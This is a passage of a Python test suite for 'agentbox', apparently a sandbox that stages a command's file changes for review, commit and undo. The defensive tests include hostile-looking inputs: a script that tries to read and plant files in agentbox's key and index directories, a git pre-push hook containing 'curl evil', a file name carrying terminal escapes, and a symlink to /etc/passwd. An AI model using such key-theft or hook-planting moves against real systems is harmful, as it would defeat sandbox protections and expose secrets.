        self.addCleanup(self.remove_deep_trees)
        if ready != "upper":
            self.skipTest("the overlay's repair (open_up_staged); this run staged by copy")
        res = self.ab("diff", "--name-status", check=0)
        self.assertIn("ok.txt", res.out, res)

    # ---- a tree as deep as a command likes (design note 74): the review lists it down to
    # 256 levels and refuses what lies deeper as one change; discard removes all of it.

    def remove_deep_trees(self):
        # coreutils' rm goes as deep as the tree; the harness's own removal (shutil) would not.
        base = os.path.join(self.box.state, "agentbox", "sessions")
        for s in os.listdir(base) if os.path.isdir(base) else []:
            for where in ("upper", "snapshot"):
                subprocess.run(["rm", "-rf", os.path.join(base, s, where, "d")], check=True)
        subprocess.run(["rm", "-rf", os.path.join(self.box.project, "d")], check=True)

    def deep_run(self, levels):
        """A run that writes ok.txt and then a chain of `levels` directories d/d/.../d with a
        file at its end; returns the run's result."""
        self.addCleanup(self.remove_deep_trees)
        script = ("import os\nopen('ok.txt', 'w').write('ok\\n')\n"
                  "for i in range(%d):\n    os.mkdir('d'); os.chdir('d')\n"
                  "open('leaf', 'w').write('x')\n" % levels)
        res = self.box.run(["python3", "-c", script], timeout=300)
        self.assertRc(res, 0)
        return res

    @staticmethod
    def chain_depth(root):
        """How many levels of d/d/... there are below `root`, read through descriptors (the
        paths are longer than PATH_MAX)."""
        n = 0
        fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
        try:
            while True:
                try:
                    sub = os.open("d", os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW, dir_fd=fd)
                except FileNotFoundError:
                    return n
                os.close(fd)
                fd = sub
                n += 1
        finally:
            os.close(fd)

    def test_a_tree_10000_levels_deep_neither_crashes_diff_nor_commit(self):
        self.deep_run(10000)
        before = self.snap()
        names = self.ab("diff", "--name-status", check=0).out
        self.assertIn("ok.txt", names)
        deepest = "/".join(["d"] * 257)
        self.assertIn(deepest, names)
        self.assertNotIn(deepest + "/d", names)  # nothing below the refused level is listed
        self.assertEqual(self.ab("diff", check=0).rc, 0)  # the patch too: no SIGSEGV (-11)
        self.assertEqual(self.snap(), before, "diff changed the project")
        res = self.ab("commit", check=1)  # the level past the bound is held back, never landed
        self.assertIn("deeper than agentbox stages", res.err + res.out)
        with open(os.path.join(self.box.project, "ok.txt")) as f:
            self.assertEqual(f.read(), "ok\n")
        # Held back with the directories above it: the project gets no part of the chain.
        self.assertEqual(self.chain_depth(self.box.project), 0)
        # undo puts ok.txt back into the session beside the chain, which is still there whole.
        self.ab("undo", check=0)
        self.assertFalse(os.path.exists(os.path.join(self.box.project, "ok.txt")))
        self.assertIn("ok.txt", self.ab("diff", "--name-status", check=0).out)
        self.assertEqual(self.chain_depth(self.box.upper()), 10000)

    def test_discard_removes_a_tree_deeper_than_any_walk_bound(self):
        self.deep_run(5000)  # sys::walk_tree's default bound is 4096
        before = self.snap()
        upper = self.box.upper()
        self.ab("discard", check=0)
        self.assertEqual(self.snap(), before, "discard changed the project")
        if os.path.isdir(upper):
            self.assertEqual(os.listdir(upper), [], "discard left staged work in " + upper)
        self.assertEqual(self.chain_depth(self.box.project), 0)

    def test_review_of_a_deep_tree_under_a_low_descriptor_limit_succeeds(self):
        # A descriptor per level ran the review into EMFILE at ~1000 levels unprivileged (a
        # soft limit of 1024); the change walk now holds a bounded number (design note 81).
        self.deep_run(2000)

        def low_limit():
            import resource
            hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
            resource.setrlimit(resource.RLIMIT_NOFILE, (600, hard))
        p = subprocess.run([AGENTBOX, "diff", "--name-status"], capture_output=True,
                           env=self.box.env(), cwd=self.box.project, timeout=120,
                           preexec_fn=low_limit)
        self.assertEqual(p.returncode, 0, p.stderr)
        self.assertIn(b"ok.txt", p.stdout)

    def make_deep_project(self, levels):
        """A chain d/d/.../d `levels` deep in the project, with a file "leaf" at its end."""
        self.addCleanup(self.remove_deep_trees)
        fd = os.open(self.box.project, os.O_RDONLY | os.O_DIRECTORY)
        try:
            for _ in range(levels):
                os.mkdir("d", 0o755, dir_fd=fd)
                sub = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
                os.close(fd)
                fd = sub
            leaf = os.open("leaf", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
            os.write(leaf, b"x\n")
            os.close(leaf)
        finally:
            os.close(fd)

    @staticmethod
    def down_to_leaf(levels, then):
        return ("import os\nopen('ok.txt', 'w').write('ok\\n')\n"
                "for i in range(%d):\n    os.chdir('d')\n%s\n" % (levels, then))

    def test_a_project_deeper_than_256_levels_untouched_down_there_commits(self):
        # Copy staging copies the whole project into the session, and the overlay copies up
        # every directory above a file the command touches: either way level 257 was in
        # upper/, read as a refused change, and every commit of the session was held back.
        self.make_deep_project(300)
        self.assertRc(self.box.run(["python3", "-c", self.down_to_leaf(300, "os.utime('leaf')")]),
                      0)
        names = self.ab("diff", "--name-status", check=0).out
        self.assertEqual(names.split(), ["A", "ok.txt"])
        self.ab("commit", check=0)
        with open(os.path.join(self.box.project, "ok.txt")) as f:
            self.assertEqual(f.read(), "ok\n")

    def test_a_change_300_levels_down_a_deep_project_is_refused_at_level_257(self):
        self.make_deep_project(300)
        before = self.snap()
        self.assertRc(self.box.run(["python3", "-c", self.down_to_leaf(
            300, "open('leaf', 'a').write('more\\n')")]), 0)
        names = self.ab("diff", "--name-status", check=0).out.splitlines()
        self.assertEqual(names, ["M\t" + "d/" * 257, "A\tok.txt"])
        res = self.ab("commit", check=1)
        self.assertIn("deeper than agentbox stages", res.err + res.out)
        before.pop("ok.txt", None)
        after = self.snap()
        after.pop("ok.txt", None)
        self.assertEqual(after, before, "the change past the bound landed")

    def test_review_of_both_trees_250_levels_deep_under_64_descriptors(self):
        # The change walk held a descriptor a level of upper/ and one of the project: a file
        # edited at the end of a project 250 levels deep took 500, and the review died of
        # EMFILE under any soft limit below that.
        self.make_deep_project(250)
        self.assertRc(self.box.run(["python3", "-c", self.down_to_leaf(
            250, "open('leaf', 'a').write('more\\n')")]), 0)

        def low_limit():
            import resource
            hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
            resource.setrlimit(resource.RLIMIT_NOFILE, (64, hard))
        for args in (["diff", "--name-status"], ["diff"]):
            p = subprocess.run([AGENTBOX] + args, capture_output=True, env=self.box.env(),
                               cwd=self.box.project, timeout=120, preexec_fn=low_limit)
            self.assertEqual(p.returncode, 0, (args, p.stderr))
            self.assertIn(("d/" * 250 + "leaf").encode(), p.stdout)

    def test_end_of_run_over_a_deep_tree_is_bounded(self):
        # The end of the run (its review and summary) took over 100 s on 2,000-4,000 levels:
        # the protect rules were matched against every ancestor of every suffix of each path,
        # each a copy. A generous bound, not a benchmark.
        t0 = time.monotonic()
        res = self.deep_run(4000)
        self.assertLess(time.monotonic() - t0, 20, res)
        self.assertIn("ok.txt", self.ab("diff", "--name-status", check=0).out)

    def test_two_sessions_on_one_project(self):
        self.staged("echo one > one.txt; echo s1 >> README.md")
        first = self.box.sessions()[-1]
        time.sleep(0.05)
        # Not self.staged(): with two sessions holding staged changes, a bare `diff` is
        # ambiguous (exit 2, test_commit_rules.py); each is named below.
        self.assertRc(self.box.run(["sh", "-c", "echo two > two.txt; echo s2 >> README.md"]), 0)
        second = os.path.basename(self.box.sessions()[-1])
        self.ab("commit", os.path.basename(first), check=0)
        # The second session started before the first commit wrote README.md.
        res = self.ab("commit", second, check=1)
        self.assertIn("conflict", res.err)
        self.assertFalse(os.path.exists(os.path.join(self.box.project, "two.txt")))
        self.ab("commit", second, "two.txt", check=0)
        self.assertTrue(os.path.exists(os.path.join(self.box.project, "two.txt")))

    def index_dir(self):
        return os.path.join(self.box.state, "agentbox", "session-index")

    def test_a_session_the_project_index_never_recorded_is_still_diffed_and_committed(self):
        # A run killed between its meta.json and its index entry, or a session made by an
        # agentbox from before the index: the index is only a hint of which meta.json to read.
        self.staged("echo new > unindexed.txt")
        session = os.path.basename(self.box.sessions()[-1])
        entries = [n for n in os.listdir(self.index_dir()) if n.startswith(session + ".")]
        self.assertEqual(len(entries), 1, os.listdir(self.index_dir()))
        shutil.rmtree(self.index_dir())
        self.assertIn("A\tunindexed.txt", self.ab("diff", "--name-status", check=0).out)
        # Found again, it is indexed again: the next look reads it through the index.
        self.assertEqual([n for n in os.listdir(self.index_dir()) if n.startswith(session + ".")],
                         entries)
        self.ab("commit", check=0)
        with open(os.path.join(self.box.project, "unindexed.txt")) as f:
            self.assertEqual(f.read(), "new\n")

    def test_prune_removes_the_index_entries_of_the_sessions_it_removes(self):
        res = self.box.run(["sh", "-c", "echo y > ok.txt"], args=["--on-exit", "discard"])
        self.assertRc(res, 0)
        session = os.path.basename(self.box.sessions()[-1])
        self.assertTrue(any(n.startswith(session + ".") for n in os.listdir(self.index_dir())))
        time.sleep(1.1)  # --prune's cutoff is in whole seconds
        self.ab("sessions", "--prune", "0s", check=0)
        self.assertNotIn(session, os.listdir(os.path.join(self.box.state, "agentbox", "sessions")))
        self.assertFalse(any(n.startswith(session + ".") for n in os.listdir(self.index_dir())))

    def test_index_entries_whose_session_is_gone_are_swept_by_the_next_look(self):
        # Entries of sessions removed by hand, by a prune killed before it removed the entry,
        # or left behind when the state moved, were never removed: the index grew for ever.
        self.staged("echo y > ok.txt")
        keep = os.path.basename(self.box.sessions()[-1])
        res = self.box.run(["sh", "-c", "echo z > gone.txt"])
        self.assertRc(res, 0)
        gone = self.box.sessions()[-1]
        shutil.rmtree(gone)
        key = [n for n in os.listdir(self.index_dir()) if n.startswith(keep + ".")][0][24:]
        for stale in ("20200101T000000Z-abcdef." + key, "20200101T000000Z-fedcba.0123456789abcdef"):
            open(os.path.join(self.index_dir(), stale), "w").close()
        self.assertIn("A\tok.txt", self.ab("diff", "--name-status", check=0).out)
        self.assertEqual(sorted(os.listdir(self.index_dir())), [keep + "." + key])

    def test_a_forged_index_entry_never_makes_a_command_pick_another_projects_session(self):
        # The index is only a hint: an entry naming this project for another project's newer
        # session -- an empty file, a symlink, a file with content -- costs a read of that
        # session's meta.json, which names the other project; the entry is then put right.
        self.staged("echo mine > mine.txt")
        mine = os.path.basename(self.box.sessions()[-1])
        key = [n for n in os.listdir(self.index_dir()) if n.startswith(mine + ".")][0][24:]
        other = os.path.join(self.box.root, "other")
        os.makedirs(other)
        argv = self.box.argv(["sh", "-c", "echo theirs > theirs.txt"])
        argv[argv.index("-C") + 1] = other
        self.assertRc(self.box.run(None, argv=argv, cwd=other), 0)
        theirs = [os.path.basename(s) for s in self.box.sessions()
                  if os.path.basename(s) != mine][0]
        their_entry = [n for n in os.listdir(self.index_dir()) if n.startswith(theirs + ".")]
        self.assertEqual(len(their_entry), 1)
        forged = os.path.join(self.index_dir(), theirs + "." + key)
        for kind in ("empty", "symlink", "content"):
            if kind == "symlink":
                os.symlink(os.path.join(self.index_dir(), mine + "." + key), forged)
            else:
                with open(forged, "w") as f:
                    f.write("" if kind == "empty" else theirs + "\n")
            res = self.ab("diff", "--name-status", check=0)
            self.assertEqual(res.out, "A\tmine.txt\n", kind)
            self.assertFalse(os.path.lexists(forged), kind)
            # Their session is still theirs, and still found by its own project.
            self.assertIn(their_entry[0], os.listdir(self.index_dir()))
            res = subprocess.run([AGENTBOX, "diff", "--name-status"], capture_output=True,
                                 env=self.box.env(), cwd=other, timeout=60)
            self.assertEqual(res.stdout.decode(), "A\ttheirs.txt\n", kind)

    def test_an_index_entry_moved_under_another_projects_key_does_not_hide_the_session(self):
        # The index entry of this project's session renamed under another project's key --
        # with its own tag, or with the tag of the other project's genuine entry -- made every
        # command looking for this project skip the session as the other's: `diff` said there
        # was no session, `commit` could not find it. An entry now counts as another
        # project's only when its tag, the session-file MAC of its key and id, verifies.
        self.staged("echo mine > mine.txt")
        mine = os.path.basename(self.box.sessions()[-1])
        other = os.path.join(self.box.root, "other")
        os.makedirs(other)
        argv = self.box.argv(["sh", "-c", "echo theirs > theirs.txt"])
        argv[argv.index("-C") + 1] = other
        self.assertRc(self.box.run(None, argv=argv, cwd=other), 0)
        theirs = [os.path.basename(s) for s in self.box.sessions()
                  if os.path.basename(s) != mine][0]
        entry = lambda sid: [n for n in os.listdir(self.index_dir()) if n.startswith(sid + ".")]
        [own], [their_entry] = entry(mine), entry(theirs)
        their_rest = their_entry[len(theirs):]  # .<key>, and .<tag> where entries carry one
        for forged in (mine + their_rest[:17] + own[40:], mine + their_rest):
            for n in entry(mine):
                os.unlink(os.path.join(self.index_dir(), n))
            open(os.path.join(self.index_dir(), forged), "w").close()
            res = self.ab("diff", "--name-status", check=0)
            self.assertEqual(res.out, "A\tmine.txt\n", forged)
            self.assertEqual(entry(mine), [own], forged)
            res = subprocess.run([AGENTBOX, "diff", "--name-status"], capture_output=True,
                                 env=self.box.env(), cwd=other, timeout=60)
            self.assertEqual(res.stdout.decode(), "A\ttheirs.txt\n", forged)
        self.ab("commit", check=0)
        self.assertTrue(os.path.exists(os.path.join(self.box.project, "mine.txt")))

    def own_dirs_in_home(self):
        """agentbox's state, config and cache inside the home, at places the built-in
        profile's denies (~/.config/agentbox, ~/.local/state/agentbox) do not name."""
        h = self.box.home
        return {"XDG_STATE_HOME": os.path.join(h, "st"), "XDG_CONFIG_HOME": os.path.join(h, "cfg"),
                "XDG_CACHE_HOME": os.path.join(h, "cch")}

    def test_sandbox_of_a_home_holding_agentbox_dirs_cannot_plant_index_entries_or_carry_out_the_key(self):
        # The project is the home, which holds agentbox's own directories. Inside, each is
        # masked; but copy staging (bubblewrap) bound a writable copy of the whole home, own
        # directories included: `mv cfg cfg.x` took the mask along, so that the copy of the
        # log key was staged as cfg.x/agentbox/log-key and landed world-readable in the home,
        # and a new cfg/agentbox/, cch/agentbox/ and st/agentbox/session-index/ (a forged
        # entry hiding a session from its project) landed in agentbox's own directories at
        # commit. With the state in the home too, the copy copied the session into itself.
        env = self.own_dirs_in_home()
        home = self.box.home
        argv = self.box.argv(["true"], args=["--on-exit", "commit"])
        argv[argv.index("-C") + 1] = home
        self.assertRc(self.box.run(None, argv=argv, env=env, cwd=home), 0)
        key = os.path.join(env["XDG_CONFIG_HOME"], "agentbox", "log-key")
        with open(key, "rb") as f:
            key_bytes = f.read()
        forged = "20261206T000000Z-abcdef.0123456789abcdef"
        script = ("for d in st cfg cch; do mv $d $d.x; mkdir -p $d/agentbox/session-index; "
                  "echo planted > $d/agentbox/planted; done; "
                  "touch st/agentbox/session-index/" + forged + "; cat cfg.x/agentbox/log-key; "
                  "echo ran")
        argv[-1] = script
        argv[-2:-1] = ["sh", "-c"]
        res = self.box.run(None, argv=argv, env=env, cwd=home)
        self.assertRc(res, 0)
        self.assertIn("ran", res.out)
        self.assertNotIn(key_bytes.decode().strip(), res.out + res.err)
        # Whatever is left staged, forced in.
        subprocess.run([AGENTBOX, "commit", "--force"], capture_output=True,
                       env=self.box.env(env), cwd=home, timeout=120)
        found = []
        for dirpath, dirnames, filenames in os.walk(home):
            for n in filenames:
                path = os.path.join(dirpath, n)
                if n in ("planted", forged) or (n == "log-key" and path != key):
                    found.append(path)
        self.assertEqual(found, [])
        with open(key, "rb") as f:
            self.assertEqual(f.read(), key_bytes)

    def test_commit_lands_nothing_in_agentbox_dirs_that_xdg_puts_in_the_project(self):
        # Whatever put it in upper/ (a copy run of an agentbox before the fix above), a change
        # inside one of agentbox's own directories is refused at commit, as the run's own
        # review refuses it: `commit` judged with the session's profiles only, which name the
        # default places of those directories and not where XDG_CONFIG_HOME puts them.
        env = {"XDG_CONFIG_HOME": os.path.join(self.box.project, "cfg")}
        os.makedirs(os.path.join(self.box.project, "cfg", "agentbox"))
        self.assertRc(self.box.run(["sh", "-c", "echo y > ok.txt"], env=env), 0)
        planted = os.path.join(self.box.upper(), "cfg", "agentbox", "planted")
        os.makedirs(os.path.dirname(planted))
        with open(planted, "w") as f:
            f.write("planted\n")
        res = self.ab("commit", "--force", env=env)
        self.assertIn("cfg/agentbox/planted", res.err + res.out)
        self.assertTrue(os.path.exists(os.path.join(self.box.project, "ok.txt")))
        self.assertFalse(os.path.exists(os.path.join(self.box.project, "cfg", "agentbox", "planted")))

    def test_parent_swapped_for_a_symlink_after_the_run_is_a_conflict_and_writes_nothing_outside(self):
        self.staged("echo payload > src/sub/new.c")
        # After the run, the host's src/sub becomes a symlink to a directory outside.
        sub = os.path.join(self.box.project, "src", "sub")
        os.rename(sub, sub + ".moved")
        os.symlink(self.box.outside, sub)
        res = self.ab("commit", check=1)
        self.assertIn("conflict", res.err)
        self.ab("commit", "--force", check=0)
        self.assertEqual(os.listdir(self.box.outside), [], "commit wrote outside the project")
        # --force replaced the symlink with the staged directory; undo brings the link back.
        self.ab("undo", check=0)
        self.assertEqual(os.readlink(sub), self.box.outside)

    def test_patch_applied_with_git_gives_the_same_tree_as_commit(self):
        import shutil
        self.staged("echo hi >> README.md; rm -rf src/sub; mkdir -p new/d; printf 'x\\0y' > new/bin;"
                    "echo t > new/d/t.txt; chmod +x README.md; ln -s ../README.md new/link;"
                    "rm src/a.c; mkdir src/a.c; echo inner > src/a.c/f")
        copy = os.path.join(self.box.root, "copy")
        shutil.copytree(self.box.project, copy, symlinks=True)
        patch = subprocess.run([AGENTBOX, "diff", "--binary"], capture_output=True,
                               env=self.box.env(), cwd=self.box.project, timeout=60, check=True)
        subprocess.run(["git", "apply", "-"], input=patch.stdout, cwd=copy, check=True,
                       capture_output=True)
        self.ab("commit", check=0)
        # Directories git cannot record (empty ones) aside, both trees are equal.
        mine = {k: v for k, v in self.snap().items() if not stat.S_ISDIR(v[0])}
        theirs = {k: v for k, v in tree_snapshot(copy).items() if not stat.S_ISDIR(v[0])}
        self.assertEqual(mine, theirs)

    def test_diff_name_status_json_stat_and_path_filters(self):
        import json
        self.staged("echo hi >> README.md; echo n > src/new.c; rm src/sub/b.c")
        ns = self.ab("diff", "--name-status", check=0).out
        self.assertEqual(sorted(ns.splitlines()),
                         sorted(["M\tREADME.md", "A\tsrc/new.c", "D\tsrc/sub/b.c"]))
        only = self.ab("diff", "--name-status", "src", check=0).out
        self.assertNotIn("README.md", only)
        data = json.loads(self.ab("diff", "--json", check=0).out)
        kinds = {c["path"]: c["kind"] for c in data}
        self.assertEqual(kinds, {"README.md": "modified", "src/new.c": "added",
                                 "src/sub/b.c": "deleted"})
        self.assertIn("3 files changed", self.ab("diff", "--stat", check=0).out)
        # A session named by id, from anywhere.
        sid = os.path.basename(self.box.sessions()[-1])
        elsewhere = subprocess.run([AGENTBOX, "diff", "--name-status", sid[:12]], capture_output=True,
                                   env=self.box.env(), cwd=self.box.outside, timeout=60)
        self.assertEqual(elsewhere.stdout.decode(), ns)

    def test_file_name_with_terminal_escapes_cannot_drive_the_terminal(self):
        self.staged("printf x > \"$(printf 'evil\\033]0;pwned\\007\\033[2J')\"")
        for fmt in ("--name-status", "--stat"):
            out = self.ab("diff", fmt, check=0).out
            self.assertNotIn("\x1b", out, fmt)
            self.assertIn("evil", out)
        err = self.ab("commit", "--dry-run").err
        self.assertNotIn("\x1b", err)

    def test_export_tar_and_patch(self):
        import tarfile, json
        self.staged("echo hi >> README.md; rm src/a.c; echo n > new.txt; chmod 4755 new.txt")
        out = os.path.join(self.box.root, "changes.tar.gz")
        self.ab("export", "-o", out, check=0)
        with tarfile.open(out) as t:
            names = t.getnames()
            manifest = json.load(t.extractfile("manifest.json"))
            mode = t.getmember("files/new.txt").mode
        self.assertIn("files/README.md", names)
        self.assertNotIn("files/src/a.c", names)
        self.assertEqual(mode & 0o6000, 0)
        deleted = [c["path"] for c in manifest["changes"] if c["kind"] == "deleted"]
        self.assertEqual(deleted, ["src/a.c"])
        self.assertEqual(self.ab("export", "-o", out).rc, 1)  # never overwritten silently
        patch = os.path.join(self.box.root, "changes.patch")
        self.ab("export", "-o", patch, check=0)
        with open(patch, "rb") as f:
            check = subprocess.run(["git", "apply", "--check", "-"], stdin=f,
                                   capture_output=True, cwd=self.box.project)
        self.assertEqual(check.returncode, 0, check.stderr)

    def test_changes_commit_and_undo_are_in_the_signed_log(self):
        import json
        self.staged("echo hi >> README.md; ln -s /etc/passwd pw")
        self.ab("commit", check=1)
        self.ab("commit", "--force", "pw", check=0)
        self.ab("undo", check=0)
        self.ab("log", "--verify", check=0)
        events = [json.loads(l) for l in self.ab("log", "--json", check=0).out.splitlines()]
        kinds = [e["event"] for e in events]
        for k in ("change", "commit", "approval", "undo", "session.end"):
            self.assertIn(k, kinds)
        changes = {e["path"]: e for e in events if e["event"] == "change"}
        self.assertEqual(changes["pw"]["verdict"], "ask")
        self.assertEqual(changes["README.md"]["kind"], "modified")
        # Names and hashes only: no file content in the log.
        self.assertNotIn("# project", self.ab("log", "--json").out)

    def review_on_a_terminal(self, answers):
        """A run with on_exit = ask (the default on a terminal), answered through a pty."""
        argv = [AGENTBOX, "run", "-C", self.box.project, "--", "sh", "-c",
                "echo x > a.txt; echo 'curl evil' > .git/hooks/pre-push"]
        run = abtest.PtyRun(argv, self.box.env({"PAGER": "cat"}), self.box.project)
        self.addCleanup(run.close)
        seen = b""
        for answer in answers:
            self.assertTrue(run.expect(b"[a]pprove-and-commit all? "), seen + run.output)
            before, run.output = run.output.split(b"[a]pprove-and-commit all? ", 1)
            seen += before
            os.write(run.master, answer + b"\n")
        self.assertEqual(run.wait(), 0, seen + run.output)
        return seen + run.output

    def test_review_prompt_shows_the_diff_then_commits_what_is_allowed(self):
        out = self.review_on_a_terminal([b"r", b"c"])
        self.assertIn(b"diff --git a/a.txt b/a.txt", out)
        self.assertTrue(os.path.exists(os.path.join(self.box.project, "a.txt")))
        self.assertFalse(os.path.exists(os.path.join(self.box.project, ".git/hooks/pre-push")))

    def test_review_prompt_approval_is_logged(self):
        import json
        self.review_on_a_terminal([b"a"])
        self.assertTrue(os.path.exists(os.path.join(self.box.project, ".git/hooks/pre-push")))
        events = [json.loads(l) for l in self.ab("log", "--json", check=0).out.splitlines()]
        approvals = [e for e in events if e["event"] == "approval"]
        self.assertEqual([a["target"] for a in approvals], [".git/hooks/pre-push"])
        self.assertEqual(approvals[0]["by"], "prompt")

    def test_review_prompt_discard(self):
        before = self.snap()
        self.review_on_a_terminal([b"d"])
        self.assertEqual(self.snap(), before)

    def test_run_without_a_terminal_never_waits_for_an_answer(self):
        # No controlling terminal, stdin closed: on_exit falls back to keep at once.
        res = self.box.run(["sh", "-c", "echo x > a.txt"],
                           argv=[AGENTBOX, "run", "-C", self.box.project, "--", "sh", "-c",
                                 "echo x > a.txt"], timeout=30)
        self.assertRc(res, 0)
        self.assertIn("staged", res.err)

    def test_long_commit_shows_progress_on_a_terminal_only(self):
        self.staged("mkdir gen; i=0; while [ $i -lt 600 ]; do echo $i > gen/f$i; i=$((i+1)); done")
        run = abtest.PtyRun([AGENTBOX, "commit", "-n"], self.box.env(), self.box.project)
        self.addCleanup(run.close)
        self.assertEqual(run.wait(), 0, run.output)
        self.assertIn(b"and 501 more", run.output)  # 100 listed, the rest counted
        run = abtest.PtyRun([AGENTBOX, "commit"], self.box.env(), self.box.project)
        self.addCleanup(run.close)
        self.assertEqual(run.wait(), 0, run.output)
        self.assertIn(b"committing 601/601 (100%)", run.output)
        self.undo_and_commit_quietly()

    def undo_and_commit_quietly(self):
        self.ab("undo", check=0)
        res = self.ab("commit", check=0)  # stderr is a pipe: no progress line
        self.assertNotIn("committing", res.err)

    def test_hard_links_become_separate_files_on_commit(self):
        self.staged("echo same > one; ln one two")
        self.ab("commit", check=0)
        a = os.lstat(os.path.join(self.box.project, "one"))
        b = os.lstat(os.path.join(self.box.project, "two"))
        self.assertNotEqual(a.st_ino, b.st_ino)
        self.assertEqual(a.st_nlink, 1)

    def test_sessions_lists_the_session_with_its_change_count(self):
        self.staged("echo x > a; echo y > b")
        res = self.ab("sessions", "--json", check=0)
        import json
        data = json.loads(res.out)
        mine = [s for s in data if s["project"] == self.box.project]
        self.assertEqual(len(mine), 1, data)
        self.assertEqual(mine[0]["changes"], 2)
        self.assertEqual(mine[0]["status"], "staged")

    def test_session_is_recorded_as_running_before_the_command_writes(self):
        # If the supervisor were killed now, this session must list as cut short with its
        # staged work, not as an unreadable "broken" one: meta.json is written before the
        # command may start.
        import json
        seen = []

        def list_sessions():
            data = json.loads(self.ab("sessions", "--json", check=0).out)
            seen.extend(s for s in data if s["project"] == self.box.project)

        self.run_while_the_host("echo x > a", list_sessions)
        self.assertEqual([s["status"] for s in seen], ["running"], seen)

    def test_run_killed_while_the_project_is_copied_lists_as_cut_short(self):
        # Copy staging (the bubblewrap backend) copies the project before the sandbox starts.
        if abtest.BACKEND != "bwrap":
            self.skipTest("only copy staging copies the project first")
        import json
        p = self.box.project
        for d in range(40):
            os.makedirs(os.path.join(p, "many", str(d)))
            for f in range(100):
                with open(os.path.join(p, "many", str(d), str(f)), "w") as fh:
                    fh.write("x" * 2000)
        proc = self.box.popen(["sleep", "60"])
        base = os.path.join(self.box.state, "agentbox", "sessions")
        seen_copy = None
        deadline = time.monotonic() + 60
        while seen_copy is None and time.monotonic() < deadline:
            for s in os.listdir(base) if os.path.isdir(base) else []:
                if os.path.isdir(os.path.join(base, s, "snapshot")):
                    seen_copy = os.path.join(base, s)
        self.assertIsNotNone(seen_copy, "the run never began its copy")
        # Killed the moment its copy was seen: before the change, meta.json was written only
        # once the sandbox was being built.
        os.kill(proc.pid, signal.SIGKILL)
        proc.communicate(timeout=60)
        data = json.loads(self.ab("sessions", "--json", check=0).out)
        mine = [s for s in data if s["project"] == p]
        self.assertEqual([s["status"] for s in mine], ["cut-short"], data)

    def test_staging_more_than_stage_size_ends_the_sandbox_and_keeps_the_work(self):
        prof = self.box.write_profile("small", 'version = 1\nextends = ["default"]\n'
                                      '[limits]\nstage_size = "1MiB"\n')
        before = self.snap()
        res = self.box.run(["sh", "-c", "for i in $(seq 1 200); do head -c 100000 /dev/zero"
                            " > big$i; sleep 0.01; done; echo finished"], profiles=[prof])
        self.assertRc(res, 137)
        self.assertNotIn("finished", res.out)
        self.assertIn("stage_size", res.err)
        self.assertEqual(self.snap(), before)
        staged = self.ab("diff", "--name-status", check=0).out.splitlines()
        self.assertGreaterEqual(len(staged), 10)
        self.assertLess(len(staged), 200)

    @unittest.skipUnless(abtest.IS_ROOT, "mounting a small filesystem needs root")
    def test_filled_disk_during_the_run_keeps_the_session(self):
        # The state directory (and so upper/) on a 2 MiB tmpfs: the command's writes fail
        # with ENOSPC inside; agentbox still ends cleanly and the session stays reviewable.
        small = os.path.join(self.box.root, "small-state")
        os.makedirs(small)
        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=2m", "tmpfs", small], check=True)
        self.addCleanup(subprocess.run, ["umount", "-l", small])
        before = self.snap()
        res = self.box.run(["sh", "-c", "echo small > ok.txt; head -c 5000000 /dev/zero > big;"
                            " echo rc=$?"], env={"XDG_STATE_HOME": small})
        self.assertRc(res, 0)
        self.assertIn("No space left on device", res.err)
        self.assertEqual(self.snap(), before)
        diff = subprocess.run([AGENTBOX, "diff", "--name-status"], capture_output=True,
                              env=self.box.env({"XDG_STATE_HOME": small}), cwd=self.box.project)
        self.assertIn("A\tok.txt", diff.stdout.decode())

    @unittest.skipUnless(abtest.IS_ROOT, "mounting a small filesystem needs root")
    def test_filled_disk_during_commit_loses_nothing(self):
        # The project on a 1 MiB tmpfs; the session elsewhere: the commit must copy and
        # runs out of space half way.
        small = os.path.join(self.box.root, "small")
        os.makedirs(small)
        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", small], check=True)
        self.addCleanup(subprocess.run, ["umount", "-l", small])
        with open(os.path.join(small, "keep.txt"), "w") as f:
            f.write("original\n")
        before = tree_snapshot(small)
        res = self.box.run(None, cwd=small, argv=[AGENTBOX, "run", "--on-exit", "keep", "-q", "-C", small, "--",
                                 "sh", "-c", "echo changed > keep.txt; head -c 700000 /dev/zero"
                                 " > a; head -c 700000 /dev/zero > b"])
        self.assertRc(res, 0)
        res = self.ab("commit", "-C", small)
        self.assertEqual(res.rc, 1, res)
        self.assertIn("No space left on device", res.err)
        self.assertIn("rolled back", res.err)
        self.assertEqual(tree_snapshot(small), before, "a failed commit changed the project")
        self.assertIn("keep.txt", self.ab("commit", "-C", small, "--dry-run").err)

    def test_commit_killed_at_random_points_leaves_before_or_after(self):
        # 200 commits of a 300-file change set, each killed with SIGKILL after a random
        # delay; the next command that touches the session finishes or undoes it.
        iterations = int(os.environ.get("AGENTBOX_KILL_LOOPS", "200"))
        p = self.box.project
        for i in range(300):
            with open(os.path.join(p, "src", "f%03d.txt" % i), "w") as f:
                f.write("old %d\n" % i)
        script = ("for i in $(seq 0 2 299); do n=$(printf %03d $i); echo new > src/f$n.txt; done;"
                  "rm -rf src/sub; mkdir -p gen/deep; for i in $(seq 0 99); do echo $i > gen/deep/$i;"
                  " done")
        before = self.snap()
        self.staged(script)
        t0 = time.monotonic()
        self.ab("commit", check=0)
        took = time.monotonic() - t0
        after = self.snap()
        self.assertNotEqual(before, after)
        rng = random.Random(1234)
        outcomes = {"before": 0, "after": 0}
        for n in range(iterations):
            self.ab("undo", check=0)
            self.assertEqual(self.snap(), before, "undo did not restore (iteration %d)" % n)
            proc = subprocess.Popen([AGENTBOX, "commit"], env=self.box.env(), cwd=p,
                                    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            time.sleep(rng.uniform(0, took * 1.2))
            proc.send_signal(signal.SIGKILL)
            proc.wait()
            self.ab("sessions", check=0)  # touching the session recovers it
            now = self.snap()
            if now == before:
                outcomes["before"] += 1
                self.ab("commit", check=0)
            else:
                self.assertEqual(now, after, "iteration %d: the project is between" % n)
                outcomes["after"] += 1
            self.assertEqual(self.snap(), after)
        print("kill loop: %d iterations, commit takes %.0f ms, outcomes %s" % (
            iterations, took * 1000, outcomes), file=sys.stderr)


if __name__ == "__main__":
